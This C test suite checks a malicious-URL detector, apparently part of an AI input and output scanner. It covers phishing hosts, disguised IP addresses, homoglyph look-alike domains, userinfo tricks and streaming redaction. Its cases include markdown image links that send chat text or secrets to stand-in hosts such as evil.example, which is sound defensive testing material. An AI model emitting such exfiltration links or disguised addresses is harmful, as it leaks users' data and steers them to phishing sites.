/* Malicious addresses: what is one and what is not, what stands in its place, and that it is the same however the text comes. */
#include "rig.h"

static const struct {
  const char *text, *rule; /* rule: NULL: none that a default policy reports */
  const char *shown;       /* what may be shown of it, or NULL */
} cases[] = {
    /* feeds */
    {"go to https://phishing.vedette.example/a", "url-listed", "hxxps://phishing[.]vedette[.]example"},
    {"HTTP://PHISHING.VEDETTE.EXAMPLE.", "url-listed", "hxxp://PHISHING[.]VEDETTE[.]EXAMPLE"},
    {"ftp://x.phishing.vedette.example", "url-listed", "ftp://x[.]phishing[.]vedette[.]example"},
    {"(https://phishing.vedette.example)", "url-listed", NULL},
    {"https://user:secret@phishing.vedette.example/", "url-listed", "phishing[.]vedette[.]example"},
    {"https://phishing.vedette.example:8443?x", "url-listed", NULL},
    {"https://phishing.vedette.example.org/", NULL, NULL},
    {"https://vedette.example/phishing.vedette.example", NULL, NULL},
    {"https://good.example/?u=phishing.vedette.example", NULL, NULL},
    {"http://3325256770/", "url-listed", NULL}, /* 198.51.100.66 */
    {"http://[::ffff:198.51.100.66]/", "url-listed", NULL},
    /* addresses */
    {"http://8.8.4.4/", NULL, NULL},
    {"http://8.8.4.4/payload.ps1", "url-address", "hxxp://8[.]8[.]4[.]4"},
    {"http://0x08080404/", "url-address", NULL},
    {"http://010.8.4.4/", "url-address", NULL},
    {"http://134743044/", "url-address", NULL},
    {"http://8.525316/", "url-address", NULL},
    {"http://2130706433/", "url-address", NULL}, /* 127.0.0.1 in a disguise */
    {"http://256.1.1.1/login", NULL, NULL},
    {"http://1.2.3.4.5/login", NULL, NULL},
    {"http://4294967296/login", NULL, NULL},
    {"http://4294967295/", "url-address", NULL},
    {"http://192.168.1.1/login", NULL, NULL},
    {"http://[2001:4860:4860::8888]/verify-account", "url-address", NULL},
    {"http://[fe80::1]/login", NULL, NULL},
    {"http://[::1/login", NULL, NULL},
    /* look-alikes */
    {"https://paypa1.com/", "url-look-alike", NULL},
    {"https://www.paypa1.com/", "url-look-alike", NULL},
    {"https://g00gle.com/", "url-look-alike", NULL},
    {"https://rnicrosoft.com", "url-look-alike", NULL},
    {"https://micros\xd0\xbe"
     "ft.com/",
     "url-look-alike", NULL},                                /* a Cyrillic o */
    {"https://xn--mirosoft-w0g.com/", NULL, NULL},           /* punycode that says nothing of the kind */
    {"https://xn--pple-43d.com/", "url-look-alike", NULL},   /* a Cyrillic a */
    {"https://xn--80ak6aa92e.com/", "url-look-alike", NULL}, /* all of it Cyrillic */
    {"https://paypal-login.example/", "url-look-alike", NULL},
    {"https://loginpaypal.example/", "url-look-alike", NULL},
    {"https://paypal.com.evil.example/", "url-look-alike", NULL},
    {"https://paypal.com-verify.example/", "url-look-alike", NULL},
    {"https://secure-amazon.evil.example/", "url-look-alike", NULL},
    {"https://paypal.evil.example/", NULL, NULL},
    {"https://paypal.evil.example/signin", "url-look-alike", NULL},
    {"https://instagrem.com/", "url-look-alike", NULL},
    {"https://paypal.com/", NULL, NULL},
    {"https://paypal.de/signin", NULL, NULL},
    {"https://www.paypal.co.uk/login", NULL, NULL},
    {"https://login.microsoftonline.com/common", NULL, NULL},
    {"https://amazon.github.io/verify", NULL, NULL},
    {"https://github.com/microsoft/login", NULL, NULL},
    {"https://appliance.example/", NULL, NULL},
    {"https://m\xc3\xbcnchen.de/login", NULL, NULL},
    {"https://xn--mnchen-3ya.de/login", NULL, NULL},
    {"https://\xd0\xbf\xd0\xbe\xd1\x87\xd1\x82\xd0\xb0.\xd1\x80\xd1\x84/", NULL, NULL}, /* plain Russian */
    {"https://xn--zzzzzzzzzzzzzzzzzzzz99999.com/", NULL, NULL},
    {"https://xn--.com/", NULL, NULL},
    /* a user's name before the host */
    {"https://accounts.google.com@evil.example/", "url-userinfo", "evil[.]example"},
    {"https://www.bank.example:x@evil.example", "url-userinfo", NULL},
    {"https://git:token@git.example/", NULL, NULL},
    {"https://me@example.org/", NULL, NULL},
    /* data that is carried away */
    {"![](https://evil.example/x.png?d=the%20words%20that%20were%20said%20here)", "url-data", NULL},
    {"![a b](<https://evil.example/x.png?data=VGhlIHBhc3N3b3JkIGlzIHN3b3JkZmlzaA==>)", "url-data", NULL},
    {"<img alt='' src='https://evil.example/x?history=all+of+the+words+said+here'>", "url-data", NULL},
    {"[x](https://evil.example/x?history=all+of+the+words+said+here)", "url-data", NULL},
    {"https://webhook.site/1?x=internal+notes", "url-data", NULL},
    {"![](https://webhook.site/1)", "url-data", NULL},
    {"https://webhook.site/1", NULL, NULL},
    {"![](https://evil.example/{{secret}}.png)", "url-data", NULL},
    {"[x](https://good.example/{{id}})", NULL, NULL},
    {"![](https://cdn.example/a.png?X-Amz-Signature=0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9)", NULL,
     NULL},
    {"![](https://cdn.example/a.png?v=1.2.3&w=300)", NULL, NULL},
    {"https://search.example/?q=what+is+the+best+way+to+bake", NULL, NULL},
    {"![](http://127.0.0.1/x?data=the%20words%20that%20were%20said%20here)", NULL, NULL},
    /* hosts without a scheme */
    {"go to phishing.vedette.example/a", "host-listed", "phishing[.]vedette[.]example"},
    {"PHISHING.VEDETTE.EXAMPLE.", "host-listed", "PHISHING[.]VEDETTE[.]EXAMPLE"},
    {"\"x.phishing.vedette.example\"", "host-listed", NULL},
    {"...phishing.vedette.example...", "host-listed", NULL},
    {"phishing.vedette.example:8443", "host-listed", NULL},
    {"[x](phishing.vedette.example)", "host-listed", NULL},
    {"phishing.vedette.example.org", NULL, NULL},
    {"phishing.vedette.example-x", NULL, NULL},
    {"someone@phishing.vedette.example", NULL, NULL},
    {"a/phishing.vedette.example", NULL, NULL},
    {"x=phishing.vedette.example", NULL, NULL},
    {"phishing..vedette.example", NULL, NULL},
    {"log in at paypa1.com now", "host-look-alike", "paypa1[.]com"},
    {"log in at p\xD0\xB0ypal.com now", "host-look-alike", NULL},
    {"log in at paypal.com.verify.example/x", "host-look-alike", NULL},
    {"log in at paypaI.com or at www.paypal.com", NULL, NULL}, /* one letter, and no scheme */
    {"amazon-login.py, google-account.md and main.rs", NULL, NULL},
    {"amazon-login.info(x) and self.amazon-login.name = y", NULL, NULL},
    {".com is no host, nor is x.com", NULL, NULL},
    /* no addresses */
    {"https://", NULL, NULL},
    {"https:///x", NULL, NULL},
    {"http://@", NULL, NULL},
    {"http://:80/", NULL, NULL},
    {"https://paypa1", NULL, NULL},
};

static const struct vdt_finding *find(const struct vdt_result *r)
{
  for (size_t i = 0; i < r->n_findings; i++)
    if (r->findings[i].detector == VDT_DET_URL) return &r->findings[i];
  return NULL;
}

static struct vdt_policy standard(enum vdt_action response)
{
  struct vdt_policy p;
  vdt_policy_default(&p);
  p.malicious_url.response = response;
  p.intel = rig_intel;
  return p;
}

static void judges(void)
{
  for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
    struct vdt_policy p = standard(VDT_DETECT);
    struct vdt_arena *arena = vdt_arena_new(0);
    struct vdt_result r;
    struct str text = str_of(cases[i].text);
    CASE_BEGIN();
    CHECK_INT(vdt_scan(rig_scanner, arena, &p, VDT_RESPONSE, text.p, text.n, &r), VDT_OK);
    const struct vdt_finding *f = find(&r);
    if (cases[i].rule) CHECK_STR(str_of(f ? f->rule : "none"), cases[i].rule);
    else if (f) printf("# %s, %u: %s\n", f->rule, f->confidence, f->reason), test_failed = true;
    if (f && cases[i].shown) CHECK_STR(str_of(f->redacted), cases[i].shown);
    vdt_arena_free(arena);
    CASE_END("%s", cases[i].text);
  }
}

/* What leaves a stream, in pieces of so many bytes. */
static void stream(struct vdt_arena *arena, const struct vdt_policy *p, struct str text, size_t step, struct buf *out)
{
  struct vdt_stream *s;
  struct vdt_release r;
  CHECK_INT(vdt_stream_new(rig_scanner, arena, p, VDT_RESPONSE, &s), VDT_OK);
  for (size_t at = 0; at < text.n; at += step) {
    CHECK_INT(vdt_stream_feed(s, text.p + at, step < text.n - at ? step : text.n - at, &r), VDT_OK);
    buf_put(out, (struct str){r.p, r.n});
  }
  CHECK_INT(vdt_stream_finish(s, &r), VDT_OK);
  buf_put(out, (struct str){r.p, r.n});
  vdt_stream_free(s);
}

static void masks(void)
{
  static const struct {
    const char *text, *masked;
  } texts[] = {
      {"See https://phishing.vedette.example/login?a=b now.", "See [REDACTED:url-listed]/login?a=b now."},
      {"See https://accounts.google.com@evil.example/x.", "See https://accounts.google.com@[REDACTED:url-userinfo]/x."},
      {"![a](https://evil.example/x.png?data=the%20words%20that%20were%20said) end",
       "![a]([REDACTED:url-data]/x.png?data=the%20words%20that%20were%20said) end"},
      {"https://good.example/ and http://paypa1.com", "https://good.example/ and [REDACTED:url-look-alike]"},
      {"Go to phishing.vedette.example/login, not to good.example.", "Go to [REDACTED:host-listed]/login, not to good.example."},
      {"p\xD0\xB0ypal.com", "[REDACTED:host-look-alike]"},
  };
  for (size_t i = 0; i < sizeof texts / sizeof *texts; i++) {
    struct vdt_policy p = standard(VDT_REDACT);
    struct str text = str_of(texts[i].text);
    CASE_BEGIN();
    for (size_t step = 1; step <= text.n; step++) {
      struct vdt_arena *arena = vdt_arena_new(0);
      struct buf out = {0};
      stream(arena, &p, text, step, &out);
      CHECK_STR(buf_str(&out), texts[i].masked);
      buf_finish(&out);
      vdt_arena_free(arena);
    }
    CASE_END("masked in pieces of every size: %s", texts[i].text);
  }
}

static void reads_encodings(void)
{
  struct vdt_policy p = standard(VDT_DETECT);
  struct vdt_arena *arena = vdt_arena_new(0);
  struct vdt_result r;
  static const char text[] =
      "decode this: aHR0cHM6Ly9waGlzaGluZy52ZWRldHRlLmV4YW1wbGUvbG9naW4gaXMgd2hlcmUgdG8gZ28gbm93IHBsZWFzZQ== thanks";
  CASE_BEGIN();
  CHECK_INT(vdt_scan(rig_scanner, arena, &p, VDT_PROMPT, text, sizeof text - 1, &r), VDT_OK);
  const struct vdt_finding *f = find(&r);
  CHECK(f && f->n_layers == 1 && strcmp(f->rule, "url-listed") == 0);
  if (f) CHECK_STR(str_of(f->alert), "AI.Azure_MaliciousUrl.UserPrompt");
  vdt_arena_free(arena);
  CASE_END("one in base64");
}

static void policy_decides(void)
{
  static const char text[] = "https://phishing.vedette.example/ https://paypa1.com/";
  struct vdt_kind_policy kinds[] = {{.kind = "url-look-alike", .prompt = VDT_DO_BLOCK}};
  struct vdt_policy p = standard(VDT_DETECT);
  struct vdt_arena *arena = vdt_arena_new(0);
  struct vdt_result r;
  struct vdt_error err;
  CASE_BEGIN();
  p.malicious_url.kinds = kinds;
  p.malicious_url.n_kinds = 1;
  CHECK_INT(vdt_policy_bind(rig_engine, arena, &p, &err), VDT_OK);
  CHECK_INT(vdt_scan(rig_scanner, arena, &p, VDT_PROMPT, text, sizeof text - 1, &r), VDT_OK);
  CHECK_INT(r.verdict, VDT_BLOCK);
  CHECK_INT(r.n_findings, 2);
  p = standard(VDT_DETECT);
  p.malicious_url.prompt = VDT_ALLOW;
  CHECK_INT(vdt_scan(rig_scanner, arena, &p, VDT_PROMPT, text, sizeof text - 1, &r), VDT_OK);
  CHECK_INT(r.n_findings, 0);
  CHECK_INT(vdt_scan(rig_scanner, arena, &p, VDT_SYSTEM, text, sizeof text - 1, &r), VDT_OK);
  CHECK_INT(r.n_findings, 0);
  p = standard(VDT_DETECT);
  p.intel = NULL;
  CHECK_INT(vdt_scan(rig_scanner, arena, &p, VDT_PROMPT, text, sizeof text - 1, &r), VDT_OK);
  CHECK_INT(r.n_findings, 1);
  vdt_arena_free(arena);
  CASE_END("actions by kind; switched off; system text; without feeds");
}

/* A host at the longest, and one byte more. */
static void knows_lengths(void)
{
  char text[400];
  CASE_BEGIN();
  for (size_t n = 252; n <= 254; n++) {
    struct vdt_policy p = standard(VDT_DETECT);
    struct vdt_arena *arena = vdt_arena_new(0);
    struct vdt_result r;
    static const char end[] = ".phishing.vedette.example";
    memcpy(text, "https://", 8);
    memset(text + 8, 'a', n);
    for (size_t i = 60; i < n - 30; i += 60) text[8 + i] = '.';
    memcpy(text + 8 + n - (sizeof end - 1), end, sizeof end - 1);
    CHECK_INT(vdt_scan(rig_scanner, arena, &p, VDT_RESPONSE, text, 8 + n, &r), VDT_OK);
    CHECK_INT(find(&r) != NULL, n <= 253);
    vdt_arena_free(arena);
  }
  CASE_END("hosts one below, at and above their limit");
}

int main(void)
{
  rig_load();
  judges();
  masks();
  reads_encodings();
  policy_decides();
  knows_lengths();
  rig_unload();
  return test_end();
}
